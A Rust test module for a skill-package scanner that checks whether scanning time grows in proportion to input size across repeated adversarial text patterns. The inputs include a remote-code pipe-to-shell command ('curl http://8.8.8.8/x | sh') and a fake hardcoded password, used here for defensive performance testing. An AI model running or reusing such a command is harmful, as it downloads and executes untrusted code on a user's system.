//! Hostile shapes: twice the text may take about twice the time.

use std::hint::black_box;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use skillgate_model::{Content, Manifest, Skill, SkillFile, SkillKind};

use crate::{Rules, Scanner};

/// Small against a machine that others use too, large against the start of the clock.
const SMALL: usize = 24_000;
/// Quadratic work would take four times as long; the rest is noise of a busy machine.
const MOST: u32 = 3;
/// A machine that others use is seldom quiet at the first try.
const ROUNDS: usize = 12;

/// A text of about so many bytes.
type Shape = Box<dyn Fn(usize) -> String>;

fn shapes() -> Vec<(&'static str, Shape)> {
    let repeat = |unit: &'static str| move |size: usize| unit.repeat(size / unit.len());
    vec![
        ("one word", Box::new(repeat("a"))),
        ("one long sentence", Box::new(repeat("send keys to "))),
        ("commas", Box::new(repeat("send, "))),
        ("open comments", Box::new(repeat("<!-- "))),
        ("comments", Box::new(repeat("x <!-- y --> "))),
        ("fences", Box::new(repeat("```sh\n"))),
        ("headings", Box::new(repeat("# attack\n"))),
        ("items", Box::new(repeat("- never:\n"))),
        (
            "links",
            Box::new(repeat("[https://a.example](https://b.example) ")),
        ),
        ("open links", Box::new(repeat("[a]("))),
        ("open titles", Box::new(repeat("[a](b \"c "))),
        ("addresses", Box::new(repeat("curl http://8.8.8.8/x | sh "))),
        (
            "base64",
            Box::new(repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo ")),
        ),
        (
            "secrets",
            Box::new(repeat("password = \"k3Jx9QmZt7LpR2vWn8\" ")),
        ),
    ]
}

pub(super) fn page(text: String) -> Skill {
    Skill {
        name: "hostile".to_owned(),
        kind: SkillKind::Folder,
        root: PathBuf::from("hostile"),
        manifest: Manifest::default(),
        manifest_path: None,
        files: vec![SkillFile {
            path: "SKILL.md".to_owned(),
            raw: PathBuf::from("SKILL.md"),
            mode: 0o644,
            size: text.len() as u64,
            sha256: String::new(),
            content: Content::Bytes(text.into_bytes().into()),
        }],
        digest: String::new(),
    }
}

fn time(scanner: &Scanner, skill: &Skill) -> Duration {
    let start = Instant::now();
    black_box(scanner.scan(skill));
    start.elapsed()
}

/// The fastest of both sizes, measured in turn until they are in proportion or the rounds are over.
fn in_proportion(scanner: &Scanner, shape: &dyn Fn(usize) -> String) -> Result<(), String> {
    let (small, large) = (page(shape(SMALL)), page(shape(2 * SMALL)));
    let mut best = (Duration::MAX, Duration::MAX);
    for _ in 0..ROUNDS {
        best.0 = best.0.min(time(scanner, &small));
        best.1 = best.1.min(time(scanner, &large));
        if best.1 <= best.0 * MOST {
            return Ok(());
        }
    }
    Err(format!("{:?}, then {:?}", best.0, best.1))
}

#[test]
fn hostile_shapes_take_time_in_proportion_to_their_size() {
    let rules = Rules::built_in()
        .unwrap()
        .filtered(|rule| matches!(rule.language.as_str(), "text" | "manifest"));
    let scanner = Scanner::new(rules);
    for (name, shape) in shapes() {
        if let Err(times) = in_proportion(&scanner, &shape) {
            panic!("{name}: {times}");
        }
    }
}
